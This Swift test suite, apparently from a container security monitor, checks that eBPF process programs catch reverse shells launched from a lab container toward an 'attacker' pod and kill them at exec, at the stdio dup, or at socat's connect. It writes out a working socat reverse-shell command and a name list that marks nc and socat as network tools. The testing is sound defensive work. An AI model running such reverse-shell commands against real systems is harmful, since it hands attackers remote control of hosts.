import Foundation
import Glibc
import PodwallCore
import PodwallDetection
import PodwallKernel
import PodwallLab
import PodwallTestSupport
import Testing

/// The process programs on real execs in real runc containers.
@Suite(.serialized, .enabled(if: Privileged.enabled, Privileged.reason))
struct ProcessMonitorTests {
    /// A lab with one container in pod 1 and a TCP listener in pod 2 (the attacker).
    final class ContainerLab {
        let lab: Lab
        let monitor: ProcessMonitor
        let container: Container
        let mount: String
        let listener: Int32
        /// The file and breakout programs, with `fileRules` (nil: not loaded).
        let files: FileMonitor?
        static let listenerPort: UInt16 = 4444

        init(kills: ProcessPolicyTable.Kills, fileRules: [FileRule]? = nil) throws {
            lab = try Lab(pods: 2)
            mount = try #require(CgroupHooks.cgroup2Mount())
            let monitor = try ProcessMonitor(pinRoot: nil)
            self.monitor = monitor
            container = try lab.runContainer(in: lab.pods[0], name: "app", command: ["sleep", "300"])
            files = try fileRules.map { rules in
                let files = try FileMonitor(sharingWith: monitor, pinRoot: nil)
                try files.rules.set(rules)
                return files
            }
            try monitor.policy.watch(
                podsCgroup: mount + Container.podsCgroup(of: lab), mount: mount, kills: kills, files: fileRules != nil)
            try monitor.policy.setNames(
                ["sh": .shell, "bash": .shell, "nc": .networkTool].merging(ProcessRules.runtimeInits.map { ($0, .runtime) }) { $1 })
            let attacker = lab.pods[1]
            listener = try NetworkNamespace.run(attacker.namespace) {
                try LabSocket.tcpListener(address: attacker.ipv4, port: Self.listenerPort)
            }
        }

        deinit {
            close(listener)
            lab.teardown()
        }

        var attacker: Lab.Pod { lab.pods[1] }

        var containerCgroupID: UInt64 {
            var status = stat()
            return stat(mount + container.cgroup, &status) == 0 ? UInt64(status.st_ino) : 0
        }

        /// `bash -c "<command>"` exec'd with a TCP connection to the attacker
        /// on its stdio, by a program the names do not call a shell (python,
        /// here), so the dup2s before the exec are not the shell's own.
        func reverseShell(running command: String) throws -> Shell.Result {
            try lab.exec(
                in: container,
                ReverseShells.pythonExecs(["bash", "-c", command], connectedTo: attacker.ipv4, port: Self.listenerPort), check: false)
        }

        func execs(named comm: String) throws -> [ExecRecord] {
            try monitor.drain().compactMap { event in
                if case .exec(let record) = event, record.comm == comm { record } else { nil }
            }
        }
    }

    @Test func execsInPodsAreReportedWithContainerAndStdioAndHostExecsAreNot() throws {
        let env = try ContainerLab(kills: [])
        _ = try env.monitor.drain()
        try env.lab.exec(in: env.container, ["sh", "-c", "echo hello > /shared/hello; exit 3"], check: false)
        _ = try Shell.run(["/bin/sh", "-c", "true"])
        let events = try env.monitor.drain()
        let execs = events.compactMap { if case .exec(let record) = $0 { record } else { nil } }

        let shell = try #require(execs.first { $0.comm == "sh" }, "\(events)")
        #expect(shell.arguments == ["sh", "-c", "echo hello > /shared/hello; exit 3"])
        #expect(shell.filename == "/usr/bin/sh" || shell.filename.hasSuffix("/sh"))
        #expect(shell.process.cgroupID == env.containerCgroupID, "the container's own cgroup")
        #expect(shell.process.namespacePid != shell.process.pid, "numbered by the container's pid namespace too")
        #expect(shell.process.namespacePid < 100)
        #expect(shell.execClass == .shell)
        #expect(!shell.killedAtExec)
        #expect(shell.stdioSockets.isEmpty)
        #expect(
            shell.stdio.allSatisfy { if case .pipe = $0 { true } else if case .characterDevice = $0 { true } else { false } },
            "\(shell.stdio)")
        #expect(execs.allSatisfy { $0.process.cgroupID == env.containerCgroupID }, "host execs are not reported")

        let exit = events.first {
            if case .exit(let process, _, _, let comm) = $0 { process.pid == shell.process.pid && comm == "sh" } else { false }
        }
        guard case .exit(_, _, let code, _)? = exit else {
            Issue.record("no exit event for the shell: \(events)")
            return
        }
        #expect(code == 3 << 8, "as wait(2) reports exit(3)")
        #expect(env.monitor.counters.execs >= 1)
        #expect(env.monitor.counters.ringBufferDrops == 0)
    }

    @Test func aShellWithASocketOnItsStdioIsKilledBeforeItsFirstCommand() throws {
        let env = try ContainerLab(kills: .reverseShell)
        _ = try env.monitor.drain()
        let result = try env.reverseShell(running: "touch /shared/ran")

        let marker = env.container.sharedDirectory + "/ran"
        #expect(!FileManager.default.fileExists(atPath: marker), "the shell ran its first command")
        #expect(result.status != 0)
        let shells = try env.execs(named: "bash")
        let killed = try #require(shells.first { $0.killedAtExec }, "\(shells)")
        let socket = try #require(killed.stdioSockets.first)
        #expect(socket.proto == .tcp)
        #expect(socket.remote.description == env.attacker.ipv4)
        #expect(socket.remotePort == ContainerLab.listenerPort)
        #expect(killed.stdioSockets.count == 3, "fd 0, 1 and 2 are all the connection")
        #expect(env.monitor.counters.kills >= 1)
    }

    @Test func aShellRedirectingItsOwnStdioToASocketIsKilledAsTheDupReturns() throws {
        let env = try ContainerLab(kills: .reverseShell)
        _ = try env.monitor.drain()
        try env.lab.exec(
            in: env.container,
            ReverseShells.selfRedirect(env.attacker.ipv4, ContainerLab.listenerPort, then: "touch /shared/ran"), check: false)
        #expect(!FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/ran"))
        let redirects = try env.monitor.drain().compactMap { if case .stdioRedirect(let redirect) = $0 { redirect } else { nil } }
        let redirect = try #require(redirects.first, "no dup2 seen: \(env.monitor.syscallTracepointsUnavailable ?? "")")
        #expect(redirect.killed)
        #expect(redirect.fd == 0, "killed at the first dup onto stdio")
        #expect(redirect.comm == "bash")
        #expect(redirect.socket.remote.description == env.attacker.ipv4)
        #expect(redirect.socket.remotePort == ContainerLab.listenerPort)
    }

    @Test func withoutTheKillSwitchTheReverseShellRunsAndIsReported() throws {
        let env = try ContainerLab(kills: [])
        _ = try env.monitor.drain()
        _ = try env.reverseShell(running: "touch /shared/ran")

        #expect(FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/ran"))
        let shells = try env.execs(named: "bash")
        #expect(shells.contains { !$0.killedAtExec && $0.stdioSockets.count == 3 }, "\(shells)")
    }

    @Test func aDeniedNameIsKilledAtExecAndOthersRun() throws {
        let env = try ContainerLab(kills: .denied)
        try env.monitor.policy.setNames(["touch": .denied])
        _ = try env.monitor.drain()
        let denied = try env.lab.exec(in: env.container, ["touch", "/shared/denied"], check: false)
        try env.lab.exec(in: env.container, ["sh", "-c", "echo ok > /shared/allowed"])

        #expect(denied.status != 0)
        #expect(!FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/denied"))
        #expect(FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/allowed"))
        #expect(try env.execs(named: "touch").first?.killedAtExec == true)
    }

    /// A restarted agent swaps its pinned tracepoint links: each exec is
    /// reported once, and removing the pins detaches the programs.
    @Test func aReloadWithPinsReplacesTheLinksAndRemovingThePinsDetaches() throws {
        let lab = try Lab(pods: 1)
        defer { lab.teardown() }
        let mount = try #require(CgroupHooks.cgroup2Mount())
        let container = try lab.runContainer(in: lab.pods[0], name: "app", command: ["sleep", "300"])
        func execsOfTrue(_ monitor: ProcessMonitor) throws -> Int {
            _ = try monitor.drain()
            try lab.exec(in: container, ["true"])
            return try monitor.drain().filter { if case .exec(let record) = $0 { record.comm == "true" } else { false } }.count
        }
        let first = try ProcessMonitor(pinRoot: lab.pinRoot)
        try first.policy.watch(podsCgroup: mount + Container.podsCgroup(of: lab), mount: mount, kills: [])
        #expect(try execsOfTrue(first) == 1)
        let second = try ProcessMonitor(pinRoot: lab.pinRoot)
        #expect(try execsOfTrue(second) == 1, "the first load's links were replaced, not doubled")
        ProcessMonitor.detachPinned(under: lab.pinRoot)
        #expect(try execsOfTrue(second) == 0, "no pinned link left: nothing is watched")
    }

    /// socat with a pty: whichever of its connect and its shell's exec comes
    /// second is answered in the kernel: the shell killed at exec (socat
    /// connected first, the usual order), or socat, a network tool that
    /// started a stdin-reading shell, killed at its connect.
    @Test func socatsPtyShellIsKilledAtExecOrSocatAtItsConnect() throws {
        let env = try ContainerLab(kills: [.reverseShell])
        try env.monitor.policy.setNames(["sh": .shell, "bash": .shell, "nc": .networkTool, "socat": .networkTool])
        let result = try env.lab.exec(
            in: env.container,
            ["timeout", "-s", "KILL", "5"] + ReverseShells.socat(env.attacker.ipv4, ContainerLab.listenerPort, pty: true),
            check: false)
        let events = try env.monitor.drain()
        let relayKilled = events.contains {
            if case .relayConnect(let relay) = $0 { relay.killed && relay.connection.comm == "socat" } else { false }
        }
        let shellKilled = events.contains {
            if case .exec(let exec) = $0 { exec.comm == "sh" && exec.killedAtExec && exec.relayedBy?.comm == "socat" } else { false }
        }
        #expect(relayKilled || shellKilled, "socat: \(result.status) \(result.error)")
        // The addresses the other way round: socat starts the shell first, then connects.
        let reversed = try env.lab.exec(
            in: env.container,
            [
                "timeout", "-s", "KILL", "5", "socat", "tcp:\(env.attacker.ipv4):\(ContainerLab.listenerPort)",
                "exec:sh -i,pty,stderr,setsid,sigint,sane"
            ], check: false)
        let later = try env.monitor.drain()
        let toolKilled = later.contains {
            if case .relayConnect(let relay) = $0 { relay.killed && relay.connection.comm == "socat" } else { false }
        }
        let execKilled = later.contains { if case .exec(let exec) = $0 { exec.comm == "sh" && exec.killedAtExec } else { false } }
        #expect(toolKilled || execKilled, "socat: \(reversed.status) \(reversed.error)")
        print("socat tcp-first: relay killed at connect \(toolKilled), shell killed at exec \(execKilled)")
    }
}
